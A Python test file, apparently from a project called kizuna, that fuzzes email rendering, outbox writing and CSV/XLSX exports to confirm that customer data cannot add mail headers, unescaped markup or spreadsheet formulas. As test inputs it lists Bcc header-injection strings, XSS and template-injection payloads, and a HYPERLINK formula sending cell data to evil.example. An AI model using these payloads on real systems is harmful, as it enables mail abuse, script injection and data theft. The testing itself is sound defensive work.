"""Properties of what leaves kizuna: customer data cannot add mail headers, markup, or spreadsheet formulas.

Hypothesis puts hostile text (every Unicode line break, markup, script, formula starts) in the places customer
data and marketers' files reach: the recipient's and sender's names, the subject, reply-to; every string value of
every shipped template's context; every text cell of an exported mart and of the call list. The real renderer,
outbox writer (parsed back by Python's mail parser), mart export and call-list export are used.
"""

from __future__ import annotations

import csv
import email.policy
import email.utils
import tempfile
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kizuna.campaigns.call_list import CALL_LIST_TABLE, COLUMNS, export_call_list_csv
from kizuna.email.message import InvalidMessageError, OutgoingMessage
from kizuna.email.outbox import OutboxBackend
from kizuna.email.render import EmailTemplateError, TemplateRenderer
from kizuna.reporting.export import FORMULA_PREFIXES, export_mart
from tests.reliability.conftest import examples

RELAXED = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]

# Every character str.splitlines() breaks on, and what an attacker appends after one.
LINE_BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
INJECTIONS = ["Bcc: victim@example.com", "Content-Type: text/html", "\tcontinued", " folded", "X-Evil: 1", ":"]
HEADERISH = st.lists(
    st.one_of(
        st.sampled_from(LINE_BREAKS + INJECTIONS + ['"', "<", ">", ",", ";", "=?utf-8?q?x?="]), st.text(max_size=4)
    ),
    max_size=8,
).map("".join)

BASE_MESSAGE: dict[str, Any] = {
    "message_key": "k-1",
    "to_email": "taro@kunde.example.jp",
    "to_name": "山田 太郎",
    "from_email": "cs@sender.example.jp",
    "from_name": "株式会社テスト送信",
    "subject": "ご契約更新のご案内",
    "html": "<p>本文</p>",
    "text": "本文",
}
EXPECTED_HEADERS = {
    "message-id", "date", "from", "to", "subject", "x-kizuna-message-key", "x-kizuna-custom-args", "mime-version",
    "content-type",
}  # fmt: skip


def _words(value: str) -> str:
    """The text without whitespace: folding long encoded headers may add or drop a space, and that is all."""
    return "".join(value.split())


def _one_address(value: str) -> bool:
    return "@" in value and email.utils.parseaddr(value) == ("", value) and value.isprintable()


@settings(max_examples=examples(100), suppress_health_check=[*RELAXED, HealthCheck.filter_too_much])
@given(field=st.sampled_from(["to_name", "from_name", "subject", "reply_to"]), value=st.one_of(HEADERISH, st.emails()))
@example(field="subject", value="件名\r\nBcc: victim@example.com")
@example(field="to_name", value="山田\nBcc: victim@example.com")
@example(field="reply_to", value="r@x.jp\r\nBcc: victim@example.com")
def test_no_value_adds_a_mail_header(tmp_path: Path, field: str, value: str) -> None:
    """A message is refused, or written with exactly its own headers and recipients, each holding the value given.

    Names are kept under the length at which a header is folded, and reply-to is an address or holds a CR or
    LF: Python's folding of the rest breaks the header (test_a_long_value_is_folded_without_breaking_the_header,
    test_reply_to_must_be_one_address).
    """
    if field in ("to_name", "from_name"):
        value = value[:40]
    if field == "reply_to":
        assume(_one_address(value) or "\r" in value or "\n" in value)
    fields = {**BASE_MESSAGE, field: value, "custom_args": {"send_id": "k-1"}}
    try:
        message = OutgoingMessage(**fields)
    except InvalidMessageError:
        return
    outbox = Path(tempfile.mkdtemp(dir=tmp_path))  # the outbox writes a key once: a fresh one per example
    OutboxBackend(outbox).send(message)  # whatever OutgoingMessage accepts, the outbox writes as it was given
    [eml] = outbox.glob("*.eml")
    data = eml.read_bytes()
    raw = BytesParser(policy=email.policy.compat32).parsebytes(data)  # header names as written, values unparsed
    written = [k.lower() for k in raw]
    assert set(written) - {"reply-to"} == EXPECTED_HEADERS and len(written) == len(set(written)), written
    parsed = BytesParser(policy=email.policy.SMTP).parsebytes(data)
    if field == "reply_to":
        assert [a.addr_spec for a in parsed["Reply-To"].addresses] == [value]
        return
    assert [a.addr_spec for a in parsed["To"].addresses] == [BASE_MESSAGE["to_email"]]
    assert [a.addr_spec for a in parsed["From"].addresses] == [BASE_MESSAGE["from_email"]]
    shown = {
        "to_name": parsed["To"].addresses[0].display_name,
        "from_name": parsed["From"].addresses[0].display_name,
        "subject": str(parsed["Subject"]),
    }[field]
    if "=?" not in value:  # text shaped like an RFC 2047 encoded word is shown decoded: a display quirk only
        assert _words(shown) == _words(value), (shown, value)


@pytest.mark.parametrize(
    ("field", "value"),
    [("to_name", "Bcc: victim@example.com" * 4), ("reply_to", "r" * 60 + "@" + "long-subdomain." * 6 + "example.jp")],
    ids=["long-name", "long-reply-to"],
)
def test_a_long_value_is_folded_without_breaking_the_header(tmp_path: Path, field: str, value: str) -> None:
    """Python 3.11 folds a long ASCII display name without its quotes (the To: line then reads as a group with
    the name's addresses in it) and a long reply-to onto a line without a leading space: the outbox writes
    headers unfolded."""
    OutboxBackend(tmp_path).send(OutgoingMessage(**{**BASE_MESSAGE, field: value}))
    [eml] = tmp_path.glob("*.eml")
    data = eml.read_bytes()
    names = {k.lower() for k in BytesParser(policy=email.policy.compat32).parsebytes(data)}
    assert {"subject", "to", "content-type"} <= names
    parsed = BytesParser(policy=email.policy.SMTP).parsebytes(data)
    assert [(a.display_name, a.addr_spec) for a in parsed["To"].addresses] == [
        (value if field == "to_name" else BASE_MESSAGE["to_name"], BASE_MESSAGE["to_email"])
    ]
    if field == "reply_to":
        assert [a.addr_spec for a in parsed["Reply-To"].addresses] == [value]


@pytest.mark.parametrize("reply_to", ["a@x.jp, evil@y.jp", "X-Evil: 1", "no address", '"'], ids=str)
def test_reply_to_must_be_one_address(reply_to: str) -> None:
    with pytest.raises(InvalidMessageError):
        OutgoingMessage(**{**BASE_MESSAGE, "reply_to": reply_to})


@pytest.mark.parametrize("brk", ["\x0b", "\x85", "\u2028"], ids=["VT", "NEL", "LINE-SEPARATOR"])
def test_outgoing_message_itself_refuses_every_line_break(brk: str) -> None:
    with pytest.raises(InvalidMessageError):
        OutgoingMessage(**{**BASE_MESSAGE, "subject": f"件名{brk}Bcc: victim@example.com"})


# Markup, and Jinja syntax: data is rendered as a value, never compiled as a template ({{ 7*191 }} is not 1337).
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
          "'><a href=javascript:alert(1)>x</a>", "<!--", "<style>*{}</style>", "<iframe src=//evil>",
          "{{ 7*191 }}", "{{ sender.__class__.__mro__ }}"]  # fmt: skip
RAW_TAGS = ("<script", "<img src=x", "<svg", "<a href=javascript", "<iframe")
HOSTILE_TEXT = st.tuples(st.text(max_size=6), st.sampled_from(MARKUP), st.text(max_size=6)).map("".join)


@settings(max_examples=examples(60), suppress_health_check=RELAXED, deadline=None)
@given(data=st.data())
def test_markup_in_any_context_value_is_escaped_in_every_shipped_template(
    renderer: TemplateRenderer, data: st.DataObject
) -> None:
    template = data.draw(st.sampled_from(renderer.templates()), label="template")
    locale = data.draw(st.sampled_from(renderer.locales(template)), label="locale")
    sample = renderer.meta(template).sample_context
    assert not any(tag in renderer.render_sample(template, locale).html for tag in RAW_TAGS)
    context = {k: data.draw(HOSTILE_TEXT, label=k) if isinstance(v, str) else v for k, v in sample.items()}
    try:
        rendered = renderer.render(template, locale, context)
    except EmailTemplateError:
        return  # refused (e.g. a control character in the subject, a date filter given markup): nothing sent
    leaked = [tag for tag in RAW_TAGS if tag in rendered.html]
    assert not leaked, f"{template}/{locale}: {leaked} reached the HTML unescaped"
    everything = rendered.html + rendered.text + rendered.subject
    assert ("1337" not in everything and "<class" not in everything) or any("1337" in str(v) for v in context.values())
    assert "\n" not in rendered.subject and "\r" not in rendered.subject


# --- exports: no cell a spreadsheet would run ----------------------------------------------------------------

CELL = st.one_of(
    st.text(max_size=12),
    st.tuples(st.sampled_from([*FORMULA_PREFIXES, "＝", " =", "'", '"=']), st.text(max_size=10)).map("".join),
    st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"x")', "+81-3-0000-0000", "-1", "@SUM(A1)", "\t=1"]),
)


def _assert_neutral(written: str, original: str, *, xlsx: bool = False) -> None:
    expected = "'" + original if original.startswith(FORMULA_PREFIXES) else original
    if xlsx:  # XML stores a line end as LF: a CR in a cell comes back from the workbook as LF
        expected = expected.replace("\r\n", "\n").replace("\r", "\n")
    assert written == expected
    assert not written.startswith(FORMULA_PREFIXES)


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    path = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE SCHEMA marts; CREATE SCHEMA ops")
        con.execute(f"CREATE TABLE {CALL_LIST_TABLE} AS SELECT {', '.join(f'NULL::VARCHAR AS {c}' for c in COLUMNS)}")
    return path


@settings(max_examples=examples(15), suppress_health_check=RELAXED)
@given(cells=st.lists(CELL, min_size=1, max_size=8), fmt=st.sampled_from(["csv", "xlsx"]))
def test_every_exported_text_cell_reads_back_as_written_and_never_as_a_formula(
    warehouse: Path, tmp_path: Path, cells: list[str], fmt: str
) -> None:
    if fmt == "xlsx":  # control characters: shown as U+FFFD, see test_a_control_character_does_not_break_an_xlsx_export
        cells = [ILLEGAL_CHARACTERS_RE.sub("", c) for c in cells]
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE OR REPLACE TABLE marts.t (i INTEGER, v VARCHAR, n INTEGER)")
        con.executemany("INSERT INTO marts.t VALUES (?, ?, ?)", [[i, c, -i] for i, c in enumerate(cells)])
    out, rows = export_mart(warehouse, "t", fmt, tmp_path / f"t.{fmt}")  # type: ignore[arg-type]
    assert rows == len(cells)
    if fmt == "csv":
        with out.open(encoding="utf-8-sig", newline="") as fh:
            read = list(csv.reader(fh))[1:]
        # DuckDB writes numbers bare: -1 stays a number (it is not text a person typed).
        assert [int(r[2]) for r in read] == [-i for i in range(len(cells))]
        written = [r[1] for r in read]
    else:
        sheet = load_workbook(out).active
        assert sheet is not None
        values = list(sheet.iter_rows(min_row=2, values_only=True))
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        written = ["" if r[1] is None else str(r[1]) for r in values]
    for got, original in zip(written, cells, strict=True):
        _assert_neutral(got, original, xlsx=fmt == "xlsx")


@settings(max_examples=examples(20), suppress_health_check=RELAXED)
@given(cells=st.lists(st.tuples(CELL, CELL, CELL), min_size=1, max_size=4))
def test_every_call_list_cell_reads_back_as_written_and_never_as_a_formula(
    warehouse: Path, tmp_path: Path, cells: list[tuple[str, str, str]]
) -> None:
    """Customer names, hypotheses and next actions (from data and campaign files) as a rep's CSV shows them."""
    with duckdb.connect(str(warehouse)) as con:
        con.execute(f"DELETE FROM {CALL_LIST_TABLE}")
        for i, (name, hypothesis, action) in enumerate(cells):
            con.execute(
                f"INSERT INTO {CALL_LIST_TABLE} (run_id, campaign, priority, customer_name, hypothesis, next_action) "
                "VALUES ('r1', 'calls', ?, ?, ?, ?)",
                [str(i), name, hypothesis, action],
            )
        out = export_call_list_csv(con, "r1", "calls", tmp_path / "calls.csv")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.DictReader(fh))
    assert len(read) == len(cells)
    for row, (name, hypothesis, action) in zip(read, cells, strict=True):
        _assert_neutral(row["customer_name"], name)
        _assert_neutral(row["hypothesis"], hypothesis)
        _assert_neutral(row["next_action"], action)


def test_a_control_character_does_not_break_an_xlsx_export(warehouse: Path, tmp_path: Path) -> None:
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE TABLE marts.t AS SELECT 'ベル\x07株式会社' AS v")
    out, _ = export_mart(warehouse, "t", "xlsx", tmp_path / "t.xlsx")
    assert load_workbook(out).active["A2"].value == "ベル\ufffd株式会社"  # shown, not a stopped export
